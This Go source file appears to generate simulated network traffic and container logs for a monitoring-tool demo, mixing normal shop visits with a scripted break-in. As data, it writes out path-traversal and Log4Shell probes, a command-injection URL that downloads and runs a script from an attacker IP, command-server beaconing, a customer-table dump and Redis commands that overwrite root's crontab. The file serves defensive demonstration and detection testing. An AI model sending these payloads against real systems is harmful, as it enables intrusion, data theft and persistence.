package main

import (
	"fmt"
	"strings"
	"time"

	"tidegate/cmd/tidegate/demo"
)

// The hosts of the scenario. The containers, the gateway and the resolver are on the bridge; the attacker and
// the command server of the attacker are outside.
var (
	web, cache, db = demo.Containers[0], demo.Containers[1], demo.Containers[2]
	gateway        = "172.30.0.1"
	resolver       = "172.30.0.53"
	attacker       = "203.0.113.66"
	commandServer  = "203.0.113.99"
)

const (
	browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	scanner = "Mozilla/5.0 zgrab/0.x"
)

// addStory adds 18 seconds of customers and, from the seventh second on, the break-in.
func (s *scenario) addStory() {
	for i := range 40 {
		s.addVisit(time.Duration(i)*450*time.Millisecond, fmt.Sprintf("198.51.100.%d", 10+i%9), i)
	}
	for i := range 6 {
		s.addLookup(time.Duration(i)*3*time.Second+time.Second, "payments.example", "192.0.2.80")
	}
	s.addBreakIn(7 * time.Second)
}

// addVisit adds the visit of one customer: a request for a page, for which the web server queries the cache
// and, after a miss, the database. visit is the number of the visit.
func (s *scenario) addVisit(at time.Duration, client string, visit int) {
	paths := []string{"/", "/items", fmt.Sprintf("/items/%d", 100+visit), "/cart", "/static/shop.css"}
	path := paths[visit%len(paths)]
	key := "page:" + path
	query := fmt.Sprintf("SELECT id, name, price FROM items WHERE id > %d ORDER BY id LIMIT 20", visit)
	size := 1800 + 97*visit

	s.addRedis(at+3*time.Millisecond, []string{"GET", key}, "$-1\r\n")
	s.addMySQL(at+6*time.Millisecond, query, 20)
	s.addRedis(at+11*time.Millisecond, []string{"SET", key, "<html>…</html>", "EX", "30"}, "+OK\r\n")
	s.addHTTP(at, client, web.Ip[0],
		getRequest(path, "shop.example", browser, "Accept: text/html", "Cookie: sid=c0ffee"), 200, size)
	s.addAccessLine(at, client, path, 200, size)
}

// addBreakIn adds the steps of the attacker: scan, exploit, call home, exfiltrate, persist.
func (s *scenario) addBreakIn(at time.Duration) {
	// The scan ends with a target whose parameter is run by a shell.
	probes := []struct {
		target string
		status int
	}{
		{"/.git/config", 404},
		{"/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 404},
		{"/search?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D", 200},
		{"/cgi-bin/export?file=orders.csv;curl%20http://203.0.113.66/x.sh%20-o%20/tmp/x;sh%20/tmp/x", 200},
	}
	for i, probe := range probes {
		probeAt := at + time.Duration(i)*700*time.Millisecond
		s.addHTTP(probeAt, attacker, web.Ip[0], getRequest(probe.target, "shop.example", scanner), probe.status, 310)
		s.addAccessLine(probeAt, attacker, probe.target, probe.status, 310)
	}
	s.addLogLine(web.Name, at+1500*time.Millisecond, "stdout",
		"2026/11/01 12:00:08 search: no result for query \"${jndi:ldap://203.0.113.66:1389/a}\"")
	s.addLogLine(web.Name, at+2300*time.Millisecond, "stderr", "sh: 1: /tmp/x: Permission denied")

	// The web container calls the command server, first by its name. The generated names that it looks up
	// then do not exist.
	s.addLookup(at+3*time.Second, demo.FeedDomain, commandServer)
	s.addHTTP(at+3200*time.Millisecond, web.Ip[0], commandServer,
		getRequest("/beacon?h=shop-web", demo.FeedDomain, "curl/7.88.1"), 200, 64)
	for i, name := range []string{"xjq7kvw2zt9hpb4m.example", "qpwzkxjvhg8t3nrd.example", "vbzkq3xwjt7hfypl.example"} {
		s.addLookup(at+4*time.Second+time.Duration(i)*300*time.Millisecond, name, "")
	}

	// It reads all customers from the database and writes into the crontab of root through the cache.
	s.addMySQL(at+5*time.Second, "SELECT /*!40001 SQL_NO_CACHE */ * FROM `customers`", 400)
	s.addLogLine(db.Name, at+5*time.Second, "stderr",
		"2026-11-01 12:00:12 41 [Warning] Aborted connection 41 to db: 'shop' user: 'shop' host: '172.30.0.2' "+
			"(Got an error writing communication packets)")
	s.addRedis(at+6*time.Second, []string{"CONFIG", "SET", "dir", "/var/spool/cron"}, "+OK\r\n")
	s.addRedis(at+6200*time.Millisecond, []string{"CONFIG", "SET", "dbfilename", "root"}, "+OK\r\n")
	s.addLogLine(cache.Name, at+6300*time.Millisecond, "stdout", "1:M 01 Nov 2026 12:00:13.300 * DB saved on disk")
}

// addAccessLine adds a line to the access log of the web server.
func (s *scenario) addAccessLine(at time.Duration, client, target string, status, size int) {
	when := epoch.Add(at).Format("02/Jan/2006:15:04:05 -0700")
	line := fmt.Sprintf("%s - - [%s] \"GET %s HTTP/1.1\" %d %d \"-\" \"-\"", client, when, target, status, size)
	s.addLogLine(web.Name, at+15*time.Millisecond, "stdout", line)
}

func (s *scenario) addLogLine(container string, at time.Duration, stream, text string) {
	s.logs[container] = append(s.logs[container], logLine{epoch.Add(at), stream, text})
}

// getRequest returns an HTTP request; headers are lines behind Host and User-Agent.
func getRequest(target, host, userAgent string, headers ...string) string {
	lines := append([]string{"GET " + target + " HTTP/1.1", "Host: " + host, "User-Agent: " + userAgent}, headers...)
	return strings.Join(lines, "\r\n") + "\r\n\r\n"
}
